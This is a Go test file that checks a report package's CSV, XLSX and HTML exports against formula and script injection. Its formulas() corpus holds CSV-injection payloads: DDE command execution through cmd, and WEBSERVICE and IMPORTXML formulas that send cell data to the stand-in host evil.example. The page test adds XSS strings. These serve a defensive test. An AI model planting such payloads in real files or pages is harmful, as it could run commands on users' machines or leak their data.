package browser_test

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"rollcall/provisioning"
	"rollcall/provisioning/names/namestest"
	"rollcall/provisioning/report"
)

// formulas are texts that a spreadsheet would take for more than a text (OWASP's page on CSV injection; contracts/threats.md B1).
func formulas() []string {
	return []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.example\",\"click\")", "=WEBSERVICE(\"http://evil.example\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
		"'=1+1", "\"=1+1", "=1+1\";=1+1", ",=1+1", ";=1+1", "|=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
		"%0A-3+3", "=2+5+cmd|' /C calc'!A0", "@=1", "+", "-", "=", "@",
	}
}

func bookOf(texts []string) *report.Book {
	t := report.Table{Name: "corpus", Title: "Corpus", Firm: "A firm", By: "l.ortiz", Made: time.Now(), Columns: []report.Column{
		{Key: "text", Title: "Text", Kind: report.KindText}, {Key: "again", Title: "Again", Kind: report.KindText}, {Key: "n", Title: "Number", Kind: report.KindNumber},
		{Key: "money", Title: "Money", Kind: report.KindMoney},
	}}
	for i, s := range texts {
		t.Rows = append(t.Rows, []report.Cell{report.Text(s), report.Text("x" + s), report.Number(int64(-i)), report.Amount(provisioning.Money(-100*i), "GBP")})
	}
	t.Count("rows")
	t.Total("money", "money")
	return &report.Book{Title: "Corpus", Firm: "A firm", By: "l.ortiz", Made: time.Now(), Tables: []report.Table{t}}
}

// TestNoFormulaInAnOfficeProgram: CSV and XLSX of the formula corpus and of hostile names are opened by LibreOffice: no cell of theirs is a
// formula, and each row is there.
func TestNoFormulaInAnOfficeProgram(t *testing.T) {
	texts := append(formulas(), namestest.Hostile()...)
	book := bookOf(texts)
	dir := t.TempDir()
	for name, write := range map[string]func(io.Writer) error{
		"corpus.csv": func(w io.Writer) error { return report.WriteCSV(w, &book.Tables[0]) }, "book.xlsx": func(w io.Writer) error { return report.WriteXLSX(w, book) },
	} {
		var out bytes.Buffer
		if err := write(&out); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), out.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	cmd := exec.Command("soffice", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless", "--convert-to", "fods", "--outdir", dir, filepath.Join(dir, "corpus.csv"), filepath.Join(dir, "book.xlsx"))
	if said, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, said)
	}
	for _, name := range []string{"corpus.fods", "book.fods"} {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		cells, rows := 0, 0
		d := xml.NewDecoder(bytes.NewReader(data))
		d.Strict = false
		for {
			token, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatal(name, err)
			}
			e, ok := token.(xml.StartElement)
			if !ok {
				continue
			}
			switch e.Name.Local {
			case "table-row":
				rows++
			case "table-cell":
				cells++
			case "a":
				t.Errorf("%s holds a link", name)
			}
			for _, a := range e.Attr {
				if a.Name.Local == "formula" {
					t.Errorf("%s holds the formula %q", name, a.Value)
				}
			}
		}
		if cells < 2*len(texts) || rows < len(texts) {
			t.Errorf("%s has %d cells in %d rows of %d texts", name, cells, rows, len(texts))
		}
	}
	// and by another reader: no field of the CSV begins with what a program would take for a formula
	data, err := os.ReadFile(filepath.Join(dir, "corpus.csv"))
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range records[1:] {
		for _, field := range r[:2] {
			if strings.ContainsAny(strings.TrimSpace(field + " ")[:min(1, len(strings.TrimSpace(field)))], "=+-@|\t\r\n") {
				t.Errorf("a field begins as a formula: %q", field)
			}
		}
	}
}

// TestReportPage: the page of a report is accessible, runs nothing of what people are called, and prints on A4 with each of its rows.
func TestReportPage(t *testing.T) {
	book := bookOf(append(formulas(), append(namestest.Hostile(), `"><script>window.ran=1</script>`, `<img src=x onerror="window.ran=1">`)...))
	many := bookOf(nil)
	for i := range 500 {
		many.Tables[0].Rows = append(many.Tables[0].Rows, []report.Cell{report.Text("row"), report.Text("last line " + time.Unix(int64(i), 0).UTC().Format("150405")), report.Number(int64(i)), report.Amount(100, "GBP")})
	}
	many.Tables[0].Sums = nil
	many.Tables[0].Name, many.Tables[0].Title = "many", "Many rows"
	written := func(b *report.Book) []byte {
		var out bytes.Buffer
		if err := report.WriteHTML(&out, b); err != nil {
			t.Fatal(err)
		}
		return out.Bytes()
	}
	hostile := written(book)
	book.Tables = append(book.Tables, many.Tables[0])
	whole := written(book)
	for name, c := range map[string]struct {
		width int
		dark  bool
	}{"wide": {1280, false}, "narrow": {420, false}, "dark": {1280, true}} {
		t.Run(name, func(t *testing.T) {
			page := hostile
			if name == "wide" {
				page = whole
			}
			b := open(t, page, c.width, c.dark)
			b.accessible()
			var ran bool
			var scripts int
			b.eval(`window.ran === 1`, &ran)
			b.eval(`document.scripts.length`, &scripts)
			if ran || scripts > 0 {
				t.Errorf("ran %t, %d scripts", ran, scripts)
			}
			b.shot("report-" + name)
			if name == "wide" {
				if pages := onA4(t, b.printed(), "last line 000819"); pages < 5 {
					t.Errorf("%d pages", pages)
				}
			}
			for _, said := range b.complaints() {
				if !strings.Contains(said, "script") || !strings.Contains(said, "Content Security Policy") { // axe itself is no script of the page's
					t.Error(said)
				}
			}
		})
	}
}
